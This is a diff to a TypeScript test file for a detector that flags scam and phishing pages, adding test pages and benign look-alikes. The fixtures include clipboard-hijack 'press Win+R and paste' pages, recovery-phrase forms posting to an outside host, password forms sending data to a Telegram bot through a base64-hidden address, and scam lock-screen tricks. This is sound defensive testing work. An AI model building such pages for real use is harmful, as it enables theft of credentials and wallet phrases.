@@ -6,6 +6,7 @@ import { evidenceOf, type Shape } from './evidence.ts';
 const page = (title: string, body: string, more: Partial<Shape> = {}): Shape => ({ html: `<title>${title}</title><body>${body}`, ...more });
 const script = (code: string): string => `<script>${code}</script>`;
 const PASSWORD = '<form action="in.php" method="post"><input name="user"><input type="password" name="pass"></form>';
+const OF_SCRIPT = PASSWORD.replace(' action="in.php"', '');
 const PHRASE = '<h2>Enter your 12-word recovery phrase</h2><form><textarea name="phrase"></textarea><button>Go on</button></form>';
 const PRESS = '<p>Press the Windows key + R, press Ctrl + V, and press Enter.</p>';
 const COPIES = (what: string): string => script(`button.onclick = () => navigator.clipboard.writeText(${what})`);
@@ -58,6 +59,25 @@ const CASES: Record<TrapName, { finds: [what: string, Shape, evidence: RegExp][]
         ),
       ],
       ['a captcha', page('Are you a robot?', '<p>Tick the box.</p>')],
+      [
+        'a manual with a form that a captcha guards',
+        page(
+          'Install the robot',
+          `<p>Open a terminal, paste this and read its human-readable report:</p><code>pip install robot</code>
+          <p>Protected by reCAPTCHA and Cloudflare.</p>${COPIES('code.innerText')}`,
+        ),
+      ],
+      [
+        'a manual for a terminal behind a question',
+        page('Install', `<p>Verify you are human, open a terminal, and paste: <code>pip install a</code></p>${COPIES('code.innerText')}`),
+      ],
+      [
+        'a manual for Windows of a robot',
+        page(
+          'Set up your robot',
+          `${PRESS}<code>winget install robot</code><p>Protected by Cloudflare and reCAPTCHA</p>${COPIES('c.innerText')}`,
+        ),
+      ],
     ],
   },
   smuggled_program: {
@@ -70,6 +90,14 @@ const CASES: Record<TrapName, { finds: [what: string, Shape, evidence: RegExp][]
     ],
     misses: [
       ['a text about such programs', page('Base64', `<p>A program begins with ${PROGRAM}.</p>`)],
+      [
+        'a program that another script does not save',
+        page('Chart', `${script(`const sample = ${PROGRAM}`)}${script('a.href = URL.createObjectURL(new Blob([svg])); a.click()')}`),
+      ],
+      [
+        'a comparison of addresses',
+        page('Disassembler', script(`const b = new Blob([atob(${PROGRAM})]); if (location.href == '/x') show(URL.createObjectURL(b))`)),
+      ],
       ['a chart that is saved', page('Chart', script('a.href = URL.createObjectURL(new Blob([svg])); a.click()'))],
     ],
   },
@@ -85,9 +113,25 @@ const CASES: Record<TrapName, { finds: [what: string, Shape, evidence: RegExp][]
         page('Alert', `${ALARM}<audio autoplay src="a.mp3"></audio><body oncontextmenu="return false">`),
         /takes the menu away, sounds an alarm/,
       ],
+      [
+        'without keys',
+        page('Alert', `${ALARM}<body oncontextmenu="return false" onkeydown="return false">`),
+        /takes the keys away, takes the menu away/,
+      ],
     ],
     misses: [
       ['an article about it', page('Tech support scams', `<p>The page says:</p>${ALARM}`)],
+      [
+        'a film without its sound',
+        page('We mend computers', `${ALARM}<body oncontextmenu="return false"><video autoplay muted src="a.mp4"></video>`),
+      ],
+      [
+        'keys that do something',
+        page(
+          'We mend computers',
+          `${ALARM}<body oncontextmenu="return false">${script(`addEventListener('keydown', (e) => e.key === 'Escape' && close())`)}`,
+        ),
+      ],
       ['a workshop', page('We mend computers', '<p>Is your computer infected? Call our support: +1-855-555-0148</p>')],
       [
         'a game',
@@ -102,9 +146,14 @@ const CASES: Record<TrapName, { finds: [what: string, Shape, evidence: RegExp][]
     finds: [
       ['in the name of a wallet', page('MetaMask: restore', PHRASE), /in the name of metamask/],
       [
-        'sent to a script of the server',
-        page('Restore', PHRASE.replace('<form>', '<form action="send.php" method="post">')),
-        /sends it to send\.php/,
+        'sent to another site',
+        page('Restore', PHRASE.replace('<form>', '<form action="https://collect.example/send.php" method="post">')),
+        /sends it to https:\/\/collect\.example\/send\.php/,
+      ],
+      [
+        'in a field without a name',
+        page('MetaMask', '<p>Enter your seed phrase</p><form><textarea placeholder="Type here"></textarea></form>'),
+        /in the name of metamask/,
       ],
       [
         'sent to a chat',
@@ -129,15 +178,39 @@ const CASES: Record<TrapName, { finds: [what: string, Shape, evidence: RegExp][]
       ['a tool that works in the page', page('Mnemonic code converter', PHRASE)],
       ['a warning', page('MetaMask: stay safe', '<p>Never tell anyone your recovery phrase.</p><form><input name="email"></form>')],
       ['the wallet itself', page('MetaMask: restore', PHRASE, { host: 'metamask.io', more: { domain: 'metamask.io' } })],
+      [
+        'comments on an article about wallets',
+        page(
+          'MetaMask: stay safe',
+          `<p>Never tell anyone your seed phrase.</p><form action="https://comments.example/post.php"><textarea id="comment" name="comment"></textarea>
+          <input name="author"><input name="email"></form>`,
+        ),
+      ],
+      [
+        'a message about a wallet',
+        page('MetaMask: help', '<p>Keep your 12 words to yourself.</p><form><textarea name="message"></textarea></form>'),
+      ],
+      [
+        'a text beside other fields',
+        page(
+          'Ledger: review',
+          '<p>Write your recovery phrase on paper.</p><form><textarea name="text"></textarea><input name="from"></form>',
+        ),
+      ],
+      ['a form of its own server', page('Restore', PHRASE.replace('<form>', '<form action="send.php" method="post">'))],
+      [
+        'the secret word of a bank',
+        page('Phantom Bank', '<form action="https://login.example/in"><input name="x" placeholder="Secret word"></form>'),
+      ],
       ['a form for words of another kind', page('Quiz', '<form action="quiz.php"><textarea name="answer"></textarea></form>')],
     ],
   },
   secret_sink: {
     finds: [
-      ['into a chat', page('Staff', `${PASSWORD}${script(BOT)}`), /a password, and it goes to a bot of Telegram/],
+      ['into a chat', page('Staff', `${OF_SCRIPT}${script(BOT)}`), /a password, and it goes to a bot of Telegram/],
       [
         'to an address that is hidden',
-        page('Staff', `${PASSWORD}${script('send(atob("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDE="), pass)')}`),
+        page('Staff', `${OF_SCRIPT}${script('send(atob("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDE="), pass)')}`),
         /Telegram/,
       ],
       ['by a service for forms', page('Staff', PASSWORD.replace('in.php', 'https://formspree.io/f/abc')), /a mailbox/],
@@ -151,7 +224,14 @@ const CASES: Record<TrapName, { finds: [what: string, Shape, evidence: RegExp][]
           `<form><input name="name"><textarea name="message"></textarea></form>${script(BOT.replace('form.pass', 'form.message'))}`,
         ),
       ],
-      ['a chat beside a log-in', page('Staff', `${PASSWORD}${script('notify("https://api.telegram.org/bot1:a/sendMessage?text=visit")')}`)],
+      [
+        'a form for messages beside a log-in',
+        page('Staff', `${PASSWORD}${script('if (hidePassword) fetch("https://formspree.io/f/abc", message)')}`),
+      ],
+      [
+        'a chat beside a log-in',
+        page('Staff', `${OF_SCRIPT}${script('notify("https://api.telegram.org/bot1:a/sendMessage?text=visit")')}`),
+      ],
       ['a log-in', page('Staff', PASSWORD)],
     ],
   },
@@ -223,6 +303,21 @@ const CASES: Record<TrapName, { finds: [what: string, Shape, evidence: RegExp][]
     ],
     misses: [
       ['a choir', page('The village choir', PASSWORD)],
+      ...['i.imgur.com/a.png', 'cdn.discordapp.com/icons/1/a.png'].map((file): [string, Shape] => [
+        `an icon at ${file}`,
+        page('The village choir', `<link rel="icon" href="https://${file}">${PASSWORD}`),
+      ]),
+      ['fonts of others', page('The village choir', `<link rel="stylesheet" href="https://fonts.bunny.net/css?family=a">${PASSWORD}`)],
+      [
+        'a new address that is well known',
+        page('The village choir', `<link rel="canonical" href="https://choir-news.example/">${PASSWORD}`, {
+          more: { isWellKnown: (asked) => asked === 'choir-news.example' },
+        }),
+      ],
+      ...['Odoo', 'Grafana', 'Mattermost', 'Bitwarden', 'Drupal'].map((program): [string, Shape] => [
+        `${program} on a host of one's own`,
+        page(program, PASSWORD),
+      ]),
       [
         'an article beside a log-in',
         page('Why Facebook grows in China', `${PASSWORD}${'<p>It has many users there by now.</p>'.repeat(100)}`),
@@ -266,6 +361,19 @@ describe.each(Object.entries(CASES) as [TrapName, (typeof CASES)[TrapName]][])('
     const { factors } = await capsOf(shape);
     expect(factors.filter(({ factor }) => factor.slice(4) in TRAPS)).toEqual([]);
   });
+});
+
+it('reads the scripts as often for a thousand forms as for one', async () => {
+  const readsOf = async (forms: number): Promise<number> => {
+    const evidence = await evidenceOf(page('Staff', `${OF_SCRIPT.repeat(forms)}${script('keep(passw)')}`));
+    const { page: facts } = evidence.https;
+    let reads = 0;
+    const counted = Object.defineProperty({ ...facts }, 'inlineScripts', { get: () => ((reads += 1), facts.inlineScripts) });
+    const verdict = judgeSite({ ...evidence, https: { ...evidence.https, page: counted } });
+    scoreTrust(evidence, verdict);
+    return reads;
+  };
+  expect(await readsOf(1_000)).toBe(await readsOf(1));
 });
 
 it('docs/site-trust.md has every trap with its cap, its sentence and its advice', () => {
